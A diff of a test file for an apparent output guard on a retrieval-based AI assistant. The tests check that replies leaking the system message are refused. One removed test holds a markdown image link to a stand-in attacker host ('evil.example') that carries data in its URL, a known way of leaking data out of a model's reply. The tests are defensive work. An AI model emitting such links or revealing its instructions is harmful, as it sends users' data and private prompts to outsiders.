@@ -128,22 +128,12 @@ def test_entities_of_any_length_are_read() -> None:
     assert looked(f"25 days &#{digits};") == []
 
 
-def test_a_reply_of_which_nothing_is_left_is_the_refusal() -> None:
-    assert read("![x](https://evil.example/?d=25)") == "No answer."
-    assert read("") == ""
-
-
 def test_a_leak_of_the_system_message_is_refused() -> None:
     (found,) = looked(f"Of course! {RULES} Anything else?")
     assert (found.action, found.start, found.end) == ("refuse", len("Of course! "), len("Of course! ") + len(RULES) - 1)
     assert read(f"Of course! {RULES}") == "No answer."
     assert looked(RULES.upper())[0].action == "refuse"
     assert looked("You answer questions from the numbered sources.") == []
-
-
-def test_what_contexts_say_too_is_no_secret() -> None:
-    request = Request(REQUEST.query, (Chunk(Span("d", 0, len(RULES)), RULES),), REQUEST.messages)
-    assert GUARD.inspect([request], [Reply(RULES)]) == [[]]
 
 
 def test_actions_are_chosen_by_kind() -> None:
